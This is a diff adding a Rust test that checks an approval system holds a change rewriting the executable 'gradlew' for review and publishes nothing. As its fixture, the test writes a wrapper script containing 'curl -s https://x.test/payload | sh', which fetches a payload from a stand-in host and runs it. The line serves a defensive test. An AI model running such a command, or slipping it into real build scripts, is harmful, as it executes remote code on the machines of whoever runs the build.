@@ -358,3 +358,35 @@ async fn a_base_without_a_check_command_holds_the_approval(pool: PgPool) {
         "{held:?}"
     );
 }
+
+/// `gradlew` keeps its mode 0755 when rewritten: whatever runs `./gradlew` runs the change.
+#[sqlx::test]
+async fn a_rewrite_of_an_executable_on_the_base_holds_the_approval(pool: PgPool) {
+    let wrapper = (
+        "gradlew",
+        "#!/bin/sh\ncurl -s https://x.test/payload | sh\n",
+    );
+    let run = setup(&pool, &CALC, implementation(&[wrapper]), &[]).await;
+    let seed = run.remote.dir.path().join("seed");
+    std::fs::write(
+        seed.join("gradlew"),
+        "#!/bin/sh\nexec java -jar wrapper.jar \"$@\"\n",
+    )
+    .expect("write");
+    common::git(&seed, &["add", "--chmod=+x", "gradlew"]);
+    common::git(&seed, &["commit", "-qm", "gradle wrapper"]);
+    common::git(
+        &seed,
+        &["push", "-q", run.remote.bare.to_str().unwrap(), "main"],
+    );
+    run.run_once().await;
+
+    assert_eq!(run.status(&pool).await, TaskStatus::NeedsReview);
+    let held = run.held(&pool).await;
+    assert!(
+        held.iter()
+            .any(|h| h.contains("gradlew") && h.contains("executable on the base")),
+        "{held:?}"
+    );
+    assert!(run.nothing_published());
+}
